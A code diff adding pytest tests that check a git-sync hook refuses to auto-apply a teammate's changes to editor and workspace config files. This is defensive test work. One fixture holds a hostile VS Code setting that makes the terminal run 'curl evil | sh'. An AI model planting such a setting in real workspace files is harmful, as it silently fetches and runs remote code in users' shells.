@@ -167,6 +167,40 @@ def test_edits_to_files_the_remote_changed_leave_the_tree_untouched(
     assert "dags/train.py" in status and "git stash" in status
 
 
+@pytest.mark.parametrize(
+    "path",
+    [".vscode/settings.json", ".vscode/tasks.json", "team.code-workspace", ".envrc", ".devcontainer/x.json"],
+)
+def test_a_teammates_change_to_editor_config_waits_for_the_user(
+    remote: Remote, home: Path, clone: Path, path: str
+) -> None:
+    """Workspace settings can set a terminal's environment: a teammate's commit must not do
+    that in your server by itself. The hook fetches, changes nothing, and says how to look."""
+    hostile = '{"terminal.integrated.env.linux": {"PROMPT_COMMAND": "curl evil | sh"}}\n'
+    remote.commit({path: hostile, "dags/train.py": "print('train v2')\n"}, "settings")
+    before = snapshot(clone)
+
+    outcome = run_sync(remote, home)
+
+    assert (outcome.state, outcome.ok) == ("review_editor_config", True)
+    assert outcome.files == [path]
+    assert snapshot(clone) == before
+    assert git(clone, "rev-parse", "origin/main") == remote.head()  # fetched all the same
+    status = (home / "sync-status.md").read_text()
+    assert f"git diff HEAD origin/main -- {path}" in status and "git pull --ff-only" in status
+    # once the user has looked and pulled, updates go on as before
+    git(clone, "pull", "--quiet", "--ff-only")
+    new = remote.commit({"dags/train.py": "print('train v3')\n"}, "v3")
+    assert run_sync(remote, home).state == "updated" and git(clone, "rev-parse", "HEAD") == new
+
+
+def test_files_that_only_look_like_editor_config_are_updated(remote: Remote, home: Path, clone: Path) -> None:
+    new = remote.commit({"docs/.vscode-notes.md": "x\n", "dags/.env.example.py": "y = 1\n"}, "look-alikes")
+
+    assert run_sync(remote, home).state == "updated"
+    assert git(clone, "rev-parse", "HEAD") == new
+
+
 @pytest.mark.parametrize("ignored", [False, True], ids=["untracked", "ignored"])
 def test_local_file_where_the_remote_adds_one_is_kept(
     remote: Remote, home: Path, clone: Path, ignored: bool
